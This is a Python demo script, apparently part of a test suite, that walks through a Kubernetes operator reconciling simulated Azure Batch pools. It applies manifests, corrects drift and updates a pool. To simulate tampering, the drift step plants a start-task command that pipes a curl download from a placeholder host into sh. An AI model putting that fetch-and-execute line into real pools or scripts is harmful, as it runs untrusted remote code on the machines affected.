"""The story: a pool before and after, drift put right, a manifest edited."""

from __future__ import annotations

import time
from typing import Any

import yaml

from tests.demo import screen
from tests.demo.stage import CHECK_INTERVAL, EXAMPLES, Stage
from tests.testbed.waiting import until

IN_SYNC = ("rendering", "genomics", "etl-windows", "risk-nightly", "video-transcode")
POOL = "rendering"
PATIENCE = 30.0


def set_up(stage: Stage, *, leashed: bool) -> None:
    """Start everything and apply the examples' account."""
    screen.heading(1, "Set up")
    screen.say("a real kube-apiserver and etcd ...")
    stage.start_cluster(leashed=leashed)
    screen.say("an embedded Azure Batch service with five pools ...")
    stage.start_batch(leashed=leashed)
    screen.say("the operator, as its own process and its own Kubernetes user ...")
    stage.start_operator(leashed=leashed)


def apply_examples(stage: Stage) -> None:
    """Apply deploy/examples as it is, but for the account's endpoint."""
    stage.create_secret()
    stage.kubectl.apply(stage.account_manifest())
    screen.say(
        f"(deploy/examples/account.yaml points to Azure; here to {stage.sim_url}, checked every {CHECK_INTERVAL})"
    )
    pools = [file for file in sorted(EXAMPLES.glob("*.yaml")) if file.name != "account.yaml"]
    flags = [argument for file in pools for argument in ("-f", str(file))]
    screen.command(stage.kubectl, "apply", *flags, shown="apply -f deploy/examples/")
    names = [f"batchpool/{name}" for name in IN_SYNC]
    screen.command(stage.kubectl, "wait", "--for=condition=Ready", "--timeout=30s", *names)


def tell(stage: Stage) -> None:
    """The tour, on a stage that is set up."""
    before = screen.properties(stage.live(POOL))
    screen.heading(2, f"The live pool '{POOL}', before")
    screen.document(before)

    screen.heading(3, "Apply the manifests")
    apply_examples(stage)
    screen.command(stage.kubectl, "get", "batchpools,batchaccounts")
    screen.say("climate-models is not there yet: Poolkeeper never creates a pool, and says so.")
    screen.say("genomics and etl-windows were right already: nothing was written to them.")

    after = screen.properties(stage.live(POOL))
    screen.heading(4, f"What the one write did to '{POOL}'")
    screen.difference(before, after)

    screen.heading(5, "Somebody changes the pool behind Git's back")
    live = stage.live(POOL)
    merge: dict[str, Any] = {
        "metadata": [{"name": "owner", "value": "somebody-else"}],
        "startTask": {**live["startTask"], "commandLine": "/bin/bash -c 'curl -s https://example.org/x | sh'"},
    }
    stage.drift(POOL, merge)
    began = time.monotonic()
    screen.difference(after, screen.properties(stage.live(POOL)))
    until(lambda: screen.properties(stage.live(POOL)) == after, what="the drift is corrected", patience=PATIENCE)
    screen.say(f"the operator noticed it, and corrected it after {time.monotonic() - began:.1f} s:")
    _await_event(stage, "DriftCorrected")
    _events(stage)

    screen.heading(6, "Edit the manifest")
    manifest = yaml.safe_load((EXAMPLES / f"{POOL}.yaml").read_text())
    manifest["spec"]["properties"]["startTask"]["maxTaskRetryCount"] = 5
    manifest["spec"]["properties"]["metadata"].append({"name": "reviewed-by", "value": "you"})
    stage.kubectl.apply(manifest)
    screen.say("startTask.maxTaskRetryCount: 5, and one metadata item more")
    until(lambda: stage.live(POOL)["startTask"]["maxTaskRetryCount"] == 5, what="the update", patience=PATIENCE)
    screen.difference(after, screen.properties(stage.live(POOL)))
    _await_event(stage, "Updated", count=2)
    _events(stage)
    screen.command(stage.kubectl, "get", "batchpools", "-o", "wide")


def _await_event(stage: Stage, reason: str, *, count: int = 1) -> None:
    fields = f"involvedObject.name={POOL},reason={reason}"
    until(
        lambda: len(stage.kubectl.json("get", "events", "--field-selector", fields)["items"]) >= count,
        what=f"an event {reason}",
        patience=PATIENCE,
    )


def _events(stage: Stage) -> None:
    columns = "custom-columns=TYPE:.type,REASON:.reason,MESSAGE:.message"
    fields = f"involvedObject.name={POOL}"
    screen.command(
        stage.kubectl,
        "get",
        "events",
        "--field-selector",
        fields,
        "--sort-by=.metadata.resourceVersion",
        "-o",
        columns,
        shown=f"get events --field-selector {fields}",
    )
